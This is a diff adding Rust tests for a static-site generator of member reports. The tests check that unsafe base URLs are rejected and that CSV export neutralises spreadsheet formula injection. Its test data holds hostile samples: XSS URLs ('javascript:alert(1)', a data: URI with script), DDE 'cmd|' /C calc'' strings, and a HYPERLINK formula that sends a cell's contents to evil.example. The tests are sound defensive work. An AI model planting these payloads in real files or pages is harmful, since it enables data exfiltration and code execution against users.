@@ -212,6 +212,172 @@ fn base_url_with_a_sub_path_prefixes_every_link() {
 }
 
 #[test]
+fn base_url_flag_is_checked_by_the_rule_of_site_toml() {
+    // Refused addresses: the flag names itself, nothing is written; site.toml with the
+    // same address is refused too (one rule for both).
+    for bad in [
+        "javascript:alert(1)//",
+        "data:text/html,<script>alert(1)</script>",
+        "/rapporter/",
+        "rapporter.example.no/",
+        "https://",
+        "https://x.example/?a=1",
+        "https://x.example/\"><script>",
+    ] {
+        let out = tempfile::tempdir().unwrap();
+        let public = out.path().join("public");
+        let o = aktsom(&[
+            "build",
+            "--root",
+            fixture("minimal").to_str().unwrap(),
+            "--out",
+            public.to_str().unwrap(),
+            "--base-url",
+            bad,
+        ]);
+        assert!(!o.status.success(), "{bad} was accepted");
+        let err = stderr(&o);
+        assert!(err.contains("--base-url"), "{bad}: {err}");
+        assert!(
+            !public.exists(),
+            "{bad}: the build wrote {}",
+            public.display()
+        );
+
+        let site = copy_fixture("minimal");
+        let toml = read(&site.path().join("site.toml"));
+        let toml = toml.replace(
+            "base_url = \"https://test.example.no/\"",
+            &format!("base_url = {}", toml_string(bad)),
+        );
+        std::fs::write(site.path().join("site.toml"), toml).unwrap();
+        let o = aktsom(&["check", "--root", site.path().to_str().unwrap()]);
+        assert!(!o.status.success(), "site.toml accepted {bad}");
+        assert!(
+            stdout(&o).contains("error: base_url "),
+            "{bad}: {}",
+            stdout(&o)
+        );
+    }
+    // Accepted: a missing trailing slash is added, as in site.toml.
+    let out = built_minimal(&["--base-url", "https://example.org/rapporter"]);
+    let sitemap = read(&out.path().join("public/sitemap.xml"));
+    assert!(
+        sitemap.contains("<loc>https://example.org/rapporter/medlemmer/</loc>"),
+        "{sitemap}"
+    );
+    let data = read(&out.path().join("public/data/rapporter.json"));
+    assert!(
+        data.contains("\"url\":\"https://example.org/rapporter/medlemmer/"),
+        "{data}"
+    );
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_text_and_json_keeps_them_exact() {
+    let site = copy_fixture("minimal");
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikk\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    let members = site.path().join("content/members");
+    let report = read(&members.join("beta-tekstil/2024.md"));
+    for (i, name) in names.iter().enumerate() {
+        let dir = members.join(format!("formel-{i}"));
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(
+            dir.join("member.toml"),
+            format!(
+                "name = {}\nsector = \"private\"\nindustry = \"Tekstil\"\n",
+                toml_string(name)
+            ),
+        )
+        .unwrap();
+        std::fs::write(dir.join("2024.md"), &report).unwrap();
+    }
+    // A text cell from site.toml, and a separator inside a name (a spreadsheet that
+    // splits at `;` would see a cell start there).
+    let toml = read(&site.path().join("site.toml"));
+    let toml = toml.replace("en = \"NOK\"", "en = \"@NOK\"");
+    std::fs::write(site.path().join("site.toml"), toml).unwrap();
+    let beta = members.join("beta-tekstil/member.toml");
+    let text = read(&beta).replace("Beta Tekstil AS", "Beta Tekstil; =1+1");
+    std::fs::write(&beta, text).unwrap();
+
+    let out = tempfile::tempdir().unwrap();
+    let public = out.path().join("public");
+    build_ok(site.path(), &public, &[]);
+    let raw = read(&public.join("data/nokkeltall.csv"));
+    // As a reader of the CSV sees them: a `'` in front (and after a tab or line break
+    // that a spreadsheet could take for the start of a cell).
+    let safe = [
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikk\")",
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'-2+3+cmd|' /C calc'!A0",
+        "'\t'=1+1",
+        "'\r'=1+1",
+    ];
+    for (i, safe) in safe.iter().enumerate() {
+        // The cell as written: quoted.
+        let cell = format!("\"{}\"", safe.replace('"', "\"\""));
+        let line = format!("formel-{i},{cell},private,2024,employees,80,,reported\n");
+        assert!(raw.contains(&line), "no line {line:?} in\n{raw}");
+    }
+    assert!(
+        raw.contains("beta-tekstil,\"Beta Tekstil; '=1+1\",private,2024,purchase_value_nok,,\"'@NOK\",not_reported\n"),
+        "{raw}"
+    );
+    // Numbers stay numbers; safe text is as it was.
+    assert!(
+        raw.contains("alfa-kommune,Alfa kommune,public,2023,employees,1200,,reported\n"),
+        "{raw}"
+    );
+
+    // A CSV reader sees the text with the `'`, on the same number of lines.
+    let mut rdr = csv::Reader::from_reader(raw.as_bytes());
+    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
+    for (i, safe) in safe.iter().enumerate() {
+        let row = rows
+            .iter()
+            .find(|r| r[0] == *format!("formel-{i}"))
+            .unwrap();
+        assert_eq!(&row[1], *safe);
+    }
+
+    // The JSON keeps every value exactly as written.
+    let all: serde_json::Value =
+        serde_json::from_str(&read(&public.join("data/rapporter.json"))).unwrap();
+    let json_name = |slug: &str| {
+        all["reports"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|r| r["member"] == slug)
+            .map(|r| r["member_name"].as_str().unwrap().to_string())
+            .unwrap()
+    };
+    for (i, name) in names.iter().enumerate() {
+        assert_eq!(json_name(&format!("formel-{i}")), *name);
+        let one: serde_json::Value = serde_json::from_str(&read(
+            &public.join(format!("medlemmer/formel-{i}/2024/rapport.json")),
+        ))
+        .unwrap();
+        assert_eq!(one["member_name"], *name);
+    }
+    assert_eq!(json_name("beta-tekstil"), "Beta Tekstil; =1+1");
+    assert_eq!(all["figures"][1]["unit"], "@NOK");
+}
+
+fn toml_string(s: &str) -> String {
+    toml::Value::String(s.into()).to_string()
+}
+
+#[test]
 fn feed_sitemap_and_robots() {
     let out = built_minimal(&[]);
     let p = out.path().join("public");
